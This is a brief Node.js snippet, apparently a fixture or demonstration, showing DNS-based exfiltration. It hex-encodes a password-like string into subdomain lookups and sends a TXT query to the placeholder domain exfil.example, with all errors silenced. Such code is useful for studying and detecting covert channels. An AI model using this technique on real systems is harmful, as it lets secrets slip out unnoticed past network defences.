// Sends by asking for names: no connection is ever made.
const { lookup } = require('node:dns');
const { Resolver } = require('node:dns').promises;
for (const part of ['61207061', '7373776f', '7264']) lookup(`${part}.x.exfil.example`, () => undefined);
new Resolver().resolveTxt('hello.t.exfil.example').then(
  () => undefined,
  () => undefined,
);
